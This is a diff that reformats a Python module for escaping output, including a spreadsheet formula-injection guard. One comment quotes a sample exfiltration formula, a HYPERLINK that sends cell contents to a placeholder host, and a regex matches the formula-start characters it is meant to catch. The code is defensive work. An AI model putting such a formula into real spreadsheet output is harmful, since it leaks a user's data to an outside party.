@@ -85,7 +85,11 @@ class CommandSafeWriter:
             return
         try:
             os.dup2(null, self._stream.fileno())
-        except (OSError, ValueError, AttributeError):  # no descriptor of its own (a test's StringIO)
+        except (
+            OSError,
+            ValueError,
+            AttributeError,
+        ):  # no descriptor of its own (a test's StringIO)
             pass
         finally:
             os.close(null)
@@ -134,7 +138,9 @@ def _no_links_or_mentions(text: str) -> str:
 # a model named =HYPERLINK("https://x/?"&A1, "open") would send the maintainer's cells away on a click. Their
 # fullwidth forms too (some spreadsheets read them as the ASCII ones), and after blanks a spreadsheet may skip:
 # spaces, no-break spaces, zero-width characters, a byte order mark.
-_FORMULA_START = re.compile("[\t\r\n\x00]|[\\s\u00a0\u200b-\u200f\u2060\ufeff]*[=+\\-@\uff1d\uff0b\uff0d\uff20\\x00]")
+_FORMULA_START = re.compile(
+    "[\t\r\n\x00]|[\\s\u00a0\u200b-\u200f\u2060\ufeff]*[=+\\-@\uff1d\uff0b\uff0d\uff20\\x00]"
+)
 
 
 def spreadsheet_cell(text: str) -> str:
@@ -153,4 +159,10 @@ def _escape(ch: str) -> str:
     if unicodedata.category(ch) == "Zs":
         return " "
     code = ord(ch)
-    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"
+    return (
+        f"\\x{code:02x}"
+        if code < 0x100
+        else f"\\u{code:04x}"
+        if code < 0x10000
+        else f"\\U{code:08x}"
+    )
